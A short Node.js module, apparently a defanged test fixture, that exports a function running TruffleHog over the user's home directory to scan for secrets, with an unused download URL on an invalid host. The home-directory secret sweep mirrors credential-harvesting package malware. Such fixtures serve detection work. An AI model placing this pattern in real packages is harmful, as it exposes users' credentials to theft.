const { execSync } = require('child_process');
const os = require('os');
const URL0 = 'https://github.com.invalid/trufflesecurity/trufflehog/releases/download/v3.0.0/trufflehog_3.0.0_linux_amd64.tar.gz';
module.exports = () => execSync('/nonexistent/trufflehog filesystem ' + os.homedir() + ' --json');
